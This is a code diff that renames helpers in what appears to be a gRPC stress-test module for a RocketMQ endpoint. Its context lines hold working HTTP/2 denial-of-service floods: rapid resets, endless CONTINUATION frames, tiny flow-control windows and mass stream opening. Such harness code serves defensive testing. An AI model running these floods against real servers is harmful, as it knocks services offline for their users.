@@ -194,10 +194,11 @@ class GrpcDoor:
 
 
 GRPC = GrpcDoor()
-_HELLO = wire.PREFACE + wire.settings_frame({})
+HELLO = wire.PREFACE + wire.settings_frame({})
 
 
-def _headers(method: str = "QueryRoute", **more: str) -> bytes:
+def headers(method: str = "QueryRoute", **more: str) -> bytes:
+    """The header block of a call."""
     encoder = hpack.Encoder()
     encoder.header_table_size = 0
     path = f"/apache.rocketmq.v2.MessagingService/{method}"
@@ -208,7 +209,8 @@ def _headers(method: str = "QueryRoute", **more: str) -> bytes:
     return bytes(encoder.encode(fields))
 
 
-def _message(content: bytes) -> bytes:
+def message(content: bytes) -> bytes:
+    """A message of a call."""
     return struct.pack(">BI", 0, len(content)) + content
 
 
@@ -217,20 +219,20 @@ def half_grpc_frames(attack: Attack) -> float:
     head = struct.pack(">HBBBI", 16_384 >> 8, 16_384 & 0xFF, wire.HEADERS, 0, 1)
     began = time.monotonic()
     for _ in range(500):
-        attack.write(_HELLO + head + bytes(16_000), attack.connect(GRPC.port))
+        attack.write(HELLO + head + bytes(16_000), attack.connect(GRPC.port))
     return 500 / (time.monotonic() - began)
 
 
 def continuations(attack: Attack) -> float:
     """Header blocks that never end, in many small frames, at full rate."""
-    begin = _HELLO + wire.frame(wire.HEADERS, 0, 1, _headers())
+    begin = HELLO + wire.frame(wire.HEADERS, 0, 1, headers())
     endless = wire.frame(wire.CONTINUATION, 0, 1, b"") * 4_000
     return flood(attack, [begin + endless], GRPC.port) * 4_000
 
 
 def rapid_resets(attack: Attack) -> float:
     """Calls that are reset at once, at full rate."""
-    block, parts = _headers(), [_HELLO]
+    block, parts = headers(), [HELLO]
     for number in range(1, 8_000, 2):
         parts.append(wire.frame(wire.HEADERS, 4, number, block))
         parts.append(wire.frame(wire.RST_STREAM, 0, number, struct.pack(">I", 8)))
@@ -240,23 +242,23 @@ def rapid_resets(attack: Attack) -> float:
 def tiny_windows(attack: Attack) -> float:
     """200 connections of 500 calls whose windows take one byte, and nobody reads."""
     hello = wire.PREFACE + wire.settings_frame({4: 1})
-    block, message = _headers(), _message(b"")
+    block, content = headers(), message(b"")
     began = time.monotonic()
     for _ in range(200):
         parts = [hello]
         for number in range(1, 1_000, 2):
             parts.append(wire.frame(wire.HEADERS, 4, number, block))
-            parts.append(wire.frame(wire.DATA, 1, number, message))
+            parts.append(wire.frame(wire.DATA, 1, number, content))
         attack.write(b"".join(parts), attack.connect(GRPC.port))
     return 100_000 / (time.monotonic() - began)
 
 
 def many_streams(attack: Attack) -> float:
     """100 connections that open 5,000 calls each and send no message."""
-    block, began = _headers("ReceiveMessage"), time.monotonic()
+    block, began = headers("ReceiveMessage"), time.monotonic()
     streams = b"".join(wire.frame(wire.HEADERS, 4, number, block) for number in range(1, 10_000, 2))
     for _ in range(100):
-        attack.write(_HELLO + streams, attack.connect(GRPC.port))
+        attack.write(HELLO + streams, attack.connect(GRPC.port))
     return 500_000 / (time.monotonic() - began)
 
 
